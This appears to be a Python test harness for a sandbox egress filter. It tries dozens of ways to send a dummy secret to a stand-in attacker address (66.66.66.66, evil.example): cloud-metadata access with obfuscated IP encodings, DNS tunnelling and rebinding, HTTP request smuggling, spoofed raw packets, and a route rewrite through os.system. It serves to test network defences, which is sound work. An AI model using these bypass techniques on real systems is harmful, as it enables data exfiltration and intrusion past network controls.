"""One attempt to get something out, named by the first argument. What it gets back it prints; failures do not matter:
who looks is on the other side. The second argument is the resolver to ask."""

import os
import socket
import ssl
import struct
import sys
import time

TECHNIQUE, RESOLVER = sys.argv[1], sys.argv[2]
SECRET = b"the-secret"
ALLOWED, LISTED, EVIL, METADATA = "93.184.216.34", "93.184.216.50", "66.66.66.66", "169.254.169.254"
TIMEOUT = 1.0


def tcp(host, port, *chunks, family=socket.AF_INET):
    with socket.socket(family) as connection:
        connection.settimeout(TIMEOUT)
        connection.connect((host, port))
        for chunk in chunks:
            connection.sendall(chunk)
            print(connection.recv(4096).decode("latin1"))


def udp(host, port, payload, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as packet:
        packet.settimeout(0.3)
        packet.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        packet.sendto(payload, (host, port))
        try:
            print(packet.recv(4096)[:64])
        except OSError as error:
            print(error)


def hello(name):
    """The first message of a TLS connection for `name`."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    outgoing = ssl.MemoryBIO()
    connection = context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=name)
    try:
        connection.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def encrypted_hello(name):
    """The same with an extension as an encrypted hello has it."""
    message = bytearray(hello(name))
    extension = struct.pack("!HH", 0xFE0D, len(SECRET)) + SECRET
    at = 5 + 4 + 2 + 32
    at += 1 + message[at]
    at += 2 + struct.unpack_from("!H", message, at)[0]
    at += 1 + message[at]
    struct.pack_into("!H", message, at, struct.unpack_from("!H", message, at)[0] + len(extension))
    message += extension
    struct.pack_into("!H", message, 3, struct.unpack_from("!H", message, 3)[0] + len(extension))
    length = int.from_bytes(message[6:9], "big") + len(extension)
    message[6:9] = length.to_bytes(3, "big")
    return bytes(message)


def question(name, kind=1):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)


def look_up(name, kind=1):
    """The addresses of `name`, as the resolver says."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as packet:
        packet.settimeout(TIMEOUT)
        packet.sendto(question(name, kind), (RESOLVER, 53))
        reply = packet.recv(4096)
    code, count = reply[3] & 15, struct.unpack_from("!H", reply, 6)[0]
    print(name, "code", code, "answers", count)
    if kind != 1 or not count:
        return []
    return [socket.inet_ntoa(reply[-4:])]


def ask_long(name, server):
    message = question(name)
    tcp(server, 53, struct.pack("!H", len(message)) + message)


def request(host, path="/", *more):
    lines = [f"GET {path} HTTP/1.1", *([f"Host: {host}"] if host else []), f"X-Secret: {SECRET.decode()}", *more, "", ""]
    return "\r\n".join(lines).encode()


def http_by_name(name, port=80):
    for address in look_up(name):
        print(name, "is", address)
        tcp(address, port, request(name))


def follow_redirect():
    look_up("allowed.example")
    with socket.create_connection((ALLOWED, 80), TIMEOUT) as connection:
        connection.sendall(request("allowed.example", "/to-metadata"))
        answer = connection.recv(4096).decode()
    target = [line for line in answer.split("\r\n") if line.startswith("location: ")][0]
    tcp(target.split("/")[2], 80, request("metadata", "/latest"))


def rebind():
    for _ in range(2):
        http_by_name("rebind.wild.example")
        time.sleep(0.1)


def fronting(*requests):
    look_up("allowed.example")
    tcp(ALLOWED, 80, *requests)


def raw(kind, protocol):
    with socket.socket(socket.AF_INET, kind, protocol) as packet:
        echo = struct.pack("!BBHHH", 8, 0, 0xF7F9, 1, 5)
        packet.settimeout(0.3)
        packet.sendto(echo, (EVIL, 0))


def packet_socket():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as packet:
        name = [name for _, name in socket.if_nameindex() if name != "lo"][0]
        packet.bind((name, 0x800))
        mine = socket.inet_aton("203.0.113.6")
        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 38, 1, 0, 64, 17, 0, mine, socket.inet_aton(EVIL))
        total = sum(struct.unpack("!10H", header))
        checksum = ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF
        header = header[:10] + struct.pack("!H", checksum) + header[12:]
        with open("/proc/net/arp") as table:
            known = [line.split() for line in table.readlines()[1:]]
        gateway = [bytes.fromhex(row[3].replace(":", "")) for row in known][:1] or [b"\x02\0\0\0\0\x01"]
        own = packet.getsockname()[4]
        packet.send(gateway[0] + own + b"\x08\0" + header + struct.pack("!HHHH", 9, 4444, 18, 0) + SECRET)


def other_address():
    """Becomes somebody else first."""
    import fcntl

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as control:
        name = [name for _, name in socket.if_nameindex() if name != "lo"][0]
        address = struct.pack("16sHH4s8s", name.encode(), socket.AF_INET, 0, socket.inet_aton("203.0.113.6"), b"")
        fcntl.ioctl(control, 0x8916, address)  # SIOCSIFADDR
    # Whoever may do that has lost the way by it.
    os.system(f"ip route replace default via 203.0.113.5 dev {name}")
    udp(EVIL, 4444, SECRET)


def foreign_source():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as packet:
        packet.setsockopt(socket.SOL_IP, 19, 1)  # IP_TRANSPARENT
        packet.bind(("203.0.113.9", 0))
        packet.sendto(SECRET, (EVIL, 4444))


def source_route():
    with socket.socket() as connection:
        connection.settimeout(TIMEOUT)
        connection.setsockopt(socket.SOL_IP, 4, b"\x83\x07\x04" + socket.inet_aton(EVIL) + b"\0")
        connection.connect((EVIL, 4444))


def other_transport(protocol, kind):
    with socket.socket(socket.AF_INET, kind, protocol) as other:
        other.settimeout(0.3)
        if kind == socket.SOCK_DGRAM:
            other.sendto(SECRET, (EVIL, 4444))
        else:
            other.connect((EVIL, 4444))


SMUGGLED = (
    "POST / HTTP/1.1\r\nHost: allowed.example\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
    "0\r\n\r\nGET /the-secret HTTP/1.1\r\nHost: evil.example\r\n\r\n"
).encode()

TECHNIQUES = {
    "direct address": lambda: tcp(EVIL, 80, SECRET),
    "direct address, odd port": lambda: tcp(EVIL, 4444, SECRET),
    "allowed address, other port": lambda: (look_up("allowed.example"), tcp(ALLOWED, 22, SECRET)),
    "port beside the allowed one": lambda: tcp(LISTED, 4444, SECRET),
    "neighbour of the allowed address": lambda: tcp("93.184.216.36", 5432, SECRET),
    "TLS without a name": lambda: (look_up("allowed.example"), tcp(ALLOWED, 443, hello(None))),
    "TLS for a forbidden name": lambda: (look_up("allowed.example"), tcp(ALLOWED, 443, hello("shared.example"))),
    "TLS for an allowed name, elsewhere": lambda: tcp(EVIL, 443, hello("allowed.example")),
    "TLS with an encrypted hello": lambda: (look_up("allowed.example"), tcp(ALLOWED, 443, encrypted_hello("allowed.example"))),
    "no TLS on its port": lambda: (look_up("allowed.example"), tcp(ALLOWED, 443, b"SSH-2.0-" + SECRET + b"\r\n")),
    "HTTP for an allowed name, elsewhere": lambda: tcp(EVIL, 80, request("allowed.example")),
    "HTTP for a forbidden name": lambda: fronting(request("shared.example")),
    "HTTP without a name": lambda: fronting(request(None)),
    "HTTP with two names": lambda: fronting(request("allowed.example", "/", "Host: shared.example")),
    "HTTP, absolute address of another name": lambda: fronting(request("allowed.example", "http://shared.example/")),
    "HTTP CONNECT": lambda: fronting(b"CONNECT evil.example:443 HTTP/1.1\r\nHost: allowed.example\r\n\r\n" + SECRET),
    "HTTP, a second request for another name": lambda: fronting(request("allowed.example"), request("shared.example", "/two")),
    "HTTP, a request hidden in another": lambda: fronting(SMUGGLED),
    "HTTP, taken over by another protocol": lambda: fronting(
        request("allowed.example", "/", "Connection: upgrade", "Upgrade: h2c")
    ),
    "no HTTP on its port": lambda: fronting(b"\x16\x03\x01" + SECRET),
    "metadata": lambda: tcp(METADATA, 80, request("metadata")),
    "metadata, decimal": lambda: tcp("2852039166", 80, request("metadata")),
    "metadata, octal": lambda: tcp("0251.0376.0251.0376", 80, request("metadata")),
    "metadata, hexadecimal": lambda: tcp("0xA9FEA9FE", 80, request("metadata")),
    "metadata, mapped into IPv6": lambda: tcp("::ffff:" + METADATA, 80, request("metadata"), family=socket.AF_INET6),
    "metadata, by an allowed name": lambda: http_by_name("meta.wild.example"),
    "metadata, by a redirect": follow_redirect,
    "private, by an allowed name": lambda: http_by_name("private.wild.example"),
    "private, by rebinding": rebind,
    "private 10/8": lambda: tcp("10.9.9.9", 80, SECRET),
    "private 172.16/12": lambda: tcp("172.16.5.5", 80, SECRET),
    "private 192.168/16": lambda: tcp("192.168.77.7", 80, SECRET),
    "carrier 100.64/10": lambda: tcp("100.64.1.1", 80, SECRET),
    "the host's own address": lambda: tcp("45.33.32.156", 8080, SECRET),
    "name with data, forbidden": lambda: look_up("6578666c.evil.example"),
    "name with long labels": lambda: look_up(".".join(["a" * 60, "b" * 60, "c" * 60, "evil.example"])),
    "name, TXT of an allowed one": lambda: look_up("data.wild.example", 16),
    "name, NULL of an allowed one": lambda: look_up("data.wild.example", 10),
    "name by TCP, forbidden": lambda: ask_long("tcp.evil.example", RESOLVER),
    "other resolver, UDP": lambda: udp("8.8.8.8", 53, question("allowed.example")),
    "other resolver, TCP": lambda: ask_long("allowed.example", "8.8.8.8"),
    "DNS over TLS": lambda: tcp("8.8.8.8", 853, hello("dns.google")),
    "DNS over HTTPS, by address": lambda: tcp("8.8.8.8", 443, hello("dns.google")),
    "QUIC to an allowed address": lambda: (look_up("allowed.example"), udp(ALLOWED, 443, b"\xc0\0\0\0\x01" + SECRET)),
    "UDP": lambda: udp(EVIL, 4444, SECRET),
    "NTP": lambda: udp(EVIL, 123, SECRET),
    "ping by a datagram socket": lambda: raw(socket.SOCK_DGRAM, socket.IPPROTO_ICMP),
    "ping by a raw socket": lambda: raw(socket.SOCK_RAW, socket.IPPROTO_ICMP),
    "a protocol of its own by a raw socket": lambda: raw(socket.SOCK_RAW, 253),
    "packets made by hand": packet_socket,
    "an address of its own choice": other_address,
    "packets from elsewhere": foreign_source,
    "a route in the packet": source_route,
    "UDP-Lite": lambda: other_transport(136, socket.SOCK_DGRAM),
    "IPv6": lambda: tcp("2606:4700::1111", 80, SECRET, family=socket.AF_INET6),
    "IPv6, UDP": lambda: udp("2606:4700::1111", 4444, SECRET, family=socket.AF_INET6),
    # What is allowed, and must work.
    "allowed: HTTP": lambda: http_by_name("allowed.example"),
    "allowed: TLS": lambda: (look_up("www.wild.example"), tcp(ALLOWED, 443, hello("www.wild.example"))),
    "allowed: address and port": lambda: tcp(LISTED, 5432, SECRET),
}


def together(names):
    """Each in a process of its own, some at a time."""
    import subprocess
    from concurrent.futures import ThreadPoolExecutor

    def attempt(name):
        done = subprocess.run([sys.executable, sys.argv[0], name, RESOLVER], capture_output=True, timeout=60)
        print(name, ":", done.stdout.decode("latin1").strip(), done.stderr.decode("latin1")[-200:])

    with ThreadPoolExecutor(6) as pool:
        list(pool.map(attempt, names))


if TECHNIQUE == "together":
    together(sys.argv[3:])
else:
    try:
        TECHNIQUES[TECHNIQUE]()
    except Exception as error:
        print(type(error).__name__, error)
